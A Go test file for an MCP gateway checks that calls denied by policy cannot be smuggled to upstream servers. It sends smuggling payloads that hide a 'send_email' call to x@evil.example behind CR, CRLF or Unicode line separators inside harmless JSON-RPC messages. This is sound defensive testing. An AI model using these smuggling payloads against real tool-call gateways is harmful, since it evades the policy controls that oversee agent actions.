package gateway

import (
	"bufio"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/sluicehq/sluice/gateway/transport"
	"github.com/sluicehq/sluice/intercept"
)

// lineFramedServer returns the command line of a real MCP stdio server in
// testdata whose reader ends lines at CR as well as LF, skipping the test
// if its interpreter is missing (failing instead under CI=true, where it
// must be installed).
func lineFramedServer(t *testing.T, interpreter, script string) (string, []string) {
	t.Helper()
	path, err := exec.LookPath(interpreter)
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("%s is needed for this test: %v", interpreter, err)
		}
		t.Skipf("%s not installed: %v", interpreter, err)
	}
	abs, err := filepath.Abs(filepath.Join("testdata", script))
	if err != nil {
		t.Fatal(err)
	}
	return path, []string{abs}
}

// hiddenCall is a call policy denies, hidden inside a message that policy
// sees as one harmless message.
const hiddenCall = `{"jsonrpc":"2.0","id":99,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"x@evil.example"}}}`

// smuggled returns messages that each carry hiddenCall between line
// breaks that JSON takes for whitespace (or, for U+2028, inside a string).
// A reader that splits lines at CR finds hiddenCall on a line of its own.
// modern adds what MCP 2026-07-28 asks of a request.
func smuggled(modern bool) []string {
	meta := ""
	if modern {
		meta = `,"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"test","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}`
	}
	escaped := strings.ReplaceAll(hiddenCall, `"`, `\"`)
	return []string{
		"{\"jsonrpc\":\"2.0\",\"method\":\"notifications/progress\",\"params\":{\"progressToken\":\"t\",\"progress\":1,\"x\":\r" + hiddenCall + "\r}}",
		"{\"jsonrpc\":\"2.0\",\"method\":\"notifications/progress\",\"params\":{\"progressToken\":\"t\",\"progress\":1,\"x\":\r\n" + hiddenCall + "\r\n}}",
		"{\"jsonrpc\":\"2.0\",\"id\":11,\"method\":\"ping\",\"params\":{\"x\":\r" + hiddenCall + "\r" + meta + "}}",
		"{\"jsonrpc\":\"2.0\",\"id\":12,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":{\"x\":\r" + hiddenCall + "\r}" + meta + "}}",
		"{\"jsonrpc\":\"2.0\",\"method\":\"notifications/progress\",\"params\":{\"progressToken\":\"t\",\"progress\":1,\"x\":\"\u2028" + escaped + "\u2028\u0085\"}}",
	}
}

// smuggledInit is an initialize request carrying hiddenCall, which a
// restarted stdio upstream would be sent again.
const smuggledInit = "{\"jsonrpc\":\"2.0\",\"id\":0,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-06-18\",\"capabilities\":{},\"clientInfo\":{\"name\":\"t\",\"version\":\"1\"},\"x\":\r" + hiddenCall + "\r}}"

// lastCall is an allowed call sent after the smuggling attempts: once its
// answer is back, the upstream has read everything sent before it.
const lastCall = `{"jsonrpc":"2.0","id":1000,"method":"tools/call","params":{"name":"echo","arguments":{}}}`

func modernLastCall() string { return modernCall(1000, "echo", `{}`) }

// TestNoSmugglingToLineFramedUpstreams sends calls hidden between CRs (and
// Unicode line separators) on every downstream transport to real stdio
// servers that split lines at CR, the Python SDK's way and Node readline's,
// and checks in the servers' own log that the denied call never ran.
func TestNoSmugglingToLineFramedUpstreams(t *testing.T) {
	servers := []struct{ name, interpreter, script string }{
		{"python", "python3", "unl_server.py"},
		{"node", "node", "unl_server.mjs"},
	}
	transports := []struct {
		name string
		run  func(t *testing.T, base string, g *Gateway)
	}{
		{"mcp 2025 session", smuggleSession},
		{"mcp 2026 stateless", smuggleStateless},
		{"websocket", smuggleWS},
		{"sse", smuggleSSE},
		{"wrap", smuggleWrap},
	}
	for _, srv := range servers {
		t.Run(srv.name, func(t *testing.T) {
			cmd, args := lineFramedServer(t, srv.interpreter, srv.script)
			for _, tr := range transports {
				t.Run(tr.name, func(t *testing.T) {
					logPath := filepath.Join(t.TempDir(), "calls.log")
					g, err := New(Options{Upstreams: []Upstream{{Name: "u", Command: cmd, Args: args,
						Env: map[string]string{"SLUICE_TEST_LOG": logPath}}}},
						&intercept.Interceptor{Decider: &intercept.StaticDecider{Allow: []string{"echo"}, Deny: []string{"send_email"}}},
						slog.New(slog.DiscardHandler))
					if err != nil {
						t.Fatal(err)
					}
					gw := httptest.NewServer(g.Handler())
					defer closeServed(t, gw, g)
					tr.run(t, gw.URL, g)
					b, err := os.ReadFile(logPath)
					if err != nil {
						t.Fatalf("the server ran no call at all: %v", err)
					}
					ran := strings.Fields(string(b))
					if slices.Contains(ran, "send_email") {
						t.Errorf("the upstream ran send_email, which policy denied: it ran %q", ran)
					}
					if len(ran) == 0 {
						t.Errorf("the upstream ran no call, want at least the last echo")
					}
				})
			}
		})
	}
}

// postSmuggled POSTs a smuggling attempt. Its answer does not matter, and
// where the upstream saw it as fragments there is none: the wait is
// bounded.
func postSmuggled(t *testing.T, u string, hdr map[string]string, body string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, u, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := (&http.Client{Timeout: 5 * time.Second}).Do(req)
	if err != nil {
		t.Logf("POST %q: %v", body, err)
		return
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

func smuggleSession(t *testing.T, base string, _ *Gateway) {
	u := base + "/mcp/u"
	status, h, body := post(t, u, nil, smuggledInit)
	sid := h.Get("Mcp-Session-Id")
	if status != 200 || sid == "" {
		t.Fatalf("initialize: got %d %s (session %q), want 200 and a session", status, body, sid)
	}
	hdr := map[string]string{"Mcp-Session-Id": sid, "Mcp-Protocol-Version": "2025-06-18"}
	post(t, u, hdr, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	for _, msg := range smuggled(false) {
		postSmuggled(t, u, hdr, msg)
	}
	if status, _, body := post(t, u, hdr, lastCall); status != 200 || !strings.Contains(body, "ran echo") {
		t.Fatalf("last call: got %d %s, want the echo result", status, body)
	}
}

func smuggleStateless(t *testing.T, base string, _ *Gateway) {
	u := base + "/mcp/u"
	for _, msg := range smuggled(true) {
		m, err := intercept.DecodeMessage([]byte(msg))
		if err != nil {
			t.Fatalf("%q: %v", msg, err)
		}
		postSmuggled(t, u, modernHeaders(m.Method, m.Name), msg)
	}
	if status, _, body := post(t, u, modernHeaders("tools/call", "echo"), modernLastCall()); status != 200 || !strings.Contains(body, "ran echo") {
		t.Fatalf("last call: got %d %s, want the echo result", status, body)
	}
}

// awaitLast reads messages with next until the answer to lastCall.
func awaitLast(t *testing.T, next func() (string, error)) {
	t.Helper()
	for {
		msg, err := next()
		if err != nil {
			// Not fatal: what the upstream ran still tells.
			t.Errorf("no answer to the last call: %v", err)
			return
		}
		if strings.Contains(msg, `"id":1000`) {
			if !strings.Contains(msg, "ran echo") {
				t.Errorf("last call: got %s, want the echo result", msg)
			}
			return
		}
	}
}

func smuggleWS(t *testing.T, base string, _ *Gateway) {
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	ws, _, err := websocket.DefaultDialer.DialContext(ctx, "ws"+strings.TrimPrefix(base, "http")+"/ws/u", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	ws.SetReadDeadline(time.Now().Add(30 * time.Second))
	for _, msg := range append(append([]string{smuggledInit}, smuggled(false)...), lastCall) {
		if err := ws.WriteMessage(websocket.TextMessage, []byte(msg)); err != nil {
			t.Fatal(err)
		}
	}
	awaitLast(t, func() (string, error) {
		_, b, err := ws.ReadMessage()
		return string(b), err
	})
}

func smuggleSSE(t *testing.T, base string, _ *Gateway) {
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, base+"/sse/u", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	rd := transport.NewSSEReader(resp.Body)
	ev, err := rd.Next()
	if err != nil || ev.Event != "endpoint" {
		t.Fatalf("first event: got %+v, %v, want the endpoint", ev, err)
	}
	ep, err := url.Parse(base)
	if err != nil {
		t.Fatal(err)
	}
	ep, _ = ep.Parse(string(ev.Data))
	for _, msg := range append(append([]string{smuggledInit}, smuggled(false)...), lastCall) {
		if status, _, body := post(t, ep.String(), nil, msg); status != http.StatusAccepted {
			t.Fatalf("POST %q: got %d %s, want 202", msg, status, body)
		}
	}
	awaitLast(t, func() (string, error) {
		ev, err := rd.Next()
		return string(ev.Data), err
	})
}

func smuggleWrap(t *testing.T, _ string, g *Gateway) {
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	c2g, fromClient := io.Pipe()
	toClient, g2c := io.Pipe()
	done := make(chan error, 1)
	go func() {
		done <- g.ServeConn(ctx, "u", transport.NewStdioConn(c2g, g2c, nil))
		g2c.Close() // the client reads to the end
	}()
	stop := context.AfterFunc(ctx, func() { g2c.Close() })
	defer stop()
	defer func() {
		fromClient.Close()
		toClient.Close()
		cancel()
		<-done
	}()
	go func() {
		// Raw bytes, as a client process writes them to sluice wrap.
		for _, msg := range append(append([]string{smuggledInit}, smuggled(false)...), lastCall) {
			if _, err := io.WriteString(fromClient, msg+"\n"); err != nil {
				return
			}
		}
	}()
	br := bufio.NewReader(toClient)
	awaitLast(t, func() (string, error) { return br.ReadString('\n') })
}
